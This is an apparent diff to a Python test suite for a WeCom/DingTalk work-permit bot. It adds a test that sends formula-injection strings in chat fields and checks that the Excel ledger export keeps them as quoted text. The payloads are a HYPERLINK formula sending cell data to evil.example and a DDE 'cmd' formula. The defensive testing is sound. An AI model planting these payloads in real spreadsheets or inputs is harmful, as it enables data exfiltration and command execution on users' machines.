@@ -240,3 +240,32 @@ def test_the_platform_refuses_a_file_over_20_mb_which_is_why_exports_never_send_
         adapter.send_file(ADMIN, "太大.xlsx", b"x" * (MAX_MEDIA + 1))
     assert refused.value.code == 45001 and not refused.value.retryable
     assert adapter.send_file(ADMIN, "刚好.xlsx", b"x" * MAX_MEDIA)["media_id"]
+
+
+@pytest.mark.parametrize("platform", ["wecom", "dingtalk"])
+def test_a_place_written_as_a_formula_in_chat_reaches_the_ledger_as_text(platform, plant, monkeypatch, redis_conn):
+    from models.permit import Permit
+    from tests.test_wecom_real_path import apply_text
+    from tests.worlds import world as a_world
+    evil_place, evil_content = '=HYPERLINK("http://evil.example/?x="&A1,"详情")', "=cmd|' /C calc'!A0"
+    with a_world(platform, plant=plant, monkeypatch=monkeypatch, redis_conn=redis_conn) as w:
+        text = apply_text().replace("地点: 3#罐区东侧管廊", f"地点: {evil_place}")
+        w.phone.text("zhuyan", text.replace("内容: DN100 管线法兰焊接", f"内容: {evil_content}"))
+        w.drain()
+        permit = Permit.get()
+        assert (permit.location, permit.content) == (evil_place, evil_content)
+        from datetime import timezone
+        month = f"{permit.planned_start.replace(tzinfo=timezone.utc).astimezone(settings.current().plant_tz):%Y-%m}"
+        w.phone.text(ADMIN, f"导出 台账 {month}")
+        w.drain()
+        files = received(w.phone, ADMIN, "file")
+        assert len(files) == 1
+        media = "sandbox/media" if platform == "wecom" else "sandbox/dingtalk-media"
+        data = requests.get(f"{w.sandbox}/{media}/{files[0]['content']['media_id']}", timeout=10)
+        sheet = load_workbook(io.BytesIO(data.content))["作业票台账"]
+        header = [c.value for c in sheet[3]]
+        row = dict(zip(header, sheet[4]))
+        assert row["作业票编号"].value == permit.no
+        for cell, value in ((row["作业地点"], evil_place), (row["作业内容"], evil_content)):
+            assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
+        assert row["计划开始"].data_type == "d"
